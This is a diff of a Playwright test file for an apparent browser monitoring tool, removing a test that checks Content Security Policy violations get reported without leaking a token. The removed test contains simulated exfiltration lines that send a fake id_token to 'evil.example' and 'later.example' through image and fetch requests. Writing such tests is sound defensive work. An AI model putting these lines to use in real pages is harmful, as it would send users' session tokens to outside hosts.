@@ -193,41 +193,6 @@ test('[MON-01] two agents in one browser are two monitored sessions when the fir
   await expectOtherSession(tab, control, first, await createAgent(control, `${testId} other`));
 });
 
-test('violations of the content policy are reported once each, also those before monitoring is loaded', async ({
-  page,
-  control,
-  guard,
-  seed,
-  site,
-}) => {
-  guard.expect(/Policy violation|Content Security Policy|content policy/);
-  await site.switchTelemetryOn();
-  await page.addInitScript(() =>
-    document.addEventListener('readystatechange', () => {
-      if (document.readyState === 'interactive')
-        new Image().src = 'https://evil.example/early?id_token=eyJhbGciOi.eyJzdWIi.c2ln';
-    }),
-  );
-  await seed.session();
-  await page.goto('/dashboard');
-  await expectMonitored(page);
-  await page.evaluate(() => {
-    for (const path of ['one', 'two']) {
-      new Image().src = `https://evil.example/${path}`;
-      fetch(`https://later.example/${path}?id_token=eyJhbGciOi.eyJzdWIi.c2ln`).catch(() => undefined);
-    }
-  });
-  await page.goto('about:blank');
-  const found = async () =>
-    [...wordsOf(await control.reports()).matchAll(/"message":"(?:csp_violation|Blocked )[^"]*/g)].map(
-      ([message]) => message.slice('"message":"'.length),
-    );
-  await expect
-    .poll(async () => (await found()).sort(), { timeout: 20_000 })
-    .toEqual(['Blocked https://evil.example by img-src', 'Blocked https://later.example by connect-src']);
-  expect(wordsOf(await control.reports())).not.toContain('eyJhbGciOi');
-});
-
 test('[MON-01] switched off by configuration, no file of it is fetched and nothing is reported', async ({
   page,
   control,
